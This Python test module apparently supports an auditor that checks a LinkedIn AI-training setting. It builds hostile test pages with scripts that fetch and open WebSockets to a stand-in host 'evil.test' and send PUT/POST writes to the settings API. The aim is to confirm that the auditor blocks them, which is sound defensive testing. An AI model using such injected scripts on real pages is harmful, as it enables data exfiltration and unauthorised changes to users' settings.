"""Pages that try to get around the network rules, and an audit of them."""

from __future__ import annotations

import json

from traces import left_in, own_folder, program_in

from auditor.demo.imitation import Answer, Scene
from auditor.linkedin.catalog import catalog
from auditor.linkedin.urls import ORIGIN

SETTING = catalog().settings["ai-training"]
API = f"{ORIGIN}/mysettings-api/settingsApiSettings/{SETTING.key}"
SWITCH = (
    "<main><h1>AI</h1><span>Use my data for training content creation AI models</span>"
    f"<input type=checkbox role=switch aria-labelledby={SETTING.key} checked></main>"
)
SOCKET = "new WebSocket('wss://{tag}.evil.test/');"


def page(script="", more=""):
    """A settings page that runs `script`, and keeps asking LinkedIn for data for two seconds."""
    return (
        "<!doctype html><html lang=en><meta charset=utf-8><link rel=icon href=data:,>"
        f"{SWITCH}{more}<script>{script}</script>"
        "<script>fetch('/data?late').catch(() => 0)</script>"
    )


def tries(tag):
    """A script that says where it ran, then asks another host and writes to the settings."""
    return (
        f"fetch('{ORIGIN}/ran?{tag}', {{mode: 'no-cors'}}).catch(() => 0);"
        f"fetch('https://{tag}.evil.test/', {{mode: 'no-cors'}}).catch(() => 0);"
        f"fetch('{API}', {{method: 'PUT', body: '{tag}'}}).catch(() => 0);"
        f"fetch('{API}', {{method: 'POST', mode: 'no-cors', body: '{tag}'}}).catch(() => 0);"
    )


def blob(script):
    """The address of `script`, as an expression of JavaScript."""
    return f"URL.createObjectURL(new Blob([{json.dumps(script)}], {{type: 'text/javascript'}}))"


def framed(script):
    """A document with `script`, quoted for an attribute."""
    return f"<script>{script}</script>".replace("&", "&amp;").replace('"', "&quot;")


def audited(serve, html, elsewhere, *more, headers=(), listening=None):
    """An audit of a page, of who is signed in already: the server, the run, what it left.

    `elsewhere` answers what is asked besides; `listening` is a socket for datagrams that is bound
    to the server's port.
    """
    server = serve(
        Scene("x", signed_in=True),
        lambda asked: (
            Answer(html, headers=headers) if asked.path == SETTING.path else elsewhere(asked)
        ),
    )
    if listening is not None:
        listening.bind(("127.0.0.1", server.port))
    with own_folder() as folder:
        done = program_in(
            folder, *("audit", "--headless", "--browser", server.browser, "--json", "-"), *more
        )
        return server, done, left_in(folder, server.port)


def reports(server):
    """What the pages said that they could do."""
    return {one.path.removeprefix("/ran?") for one in server.seen if "/ran?" in one.path}
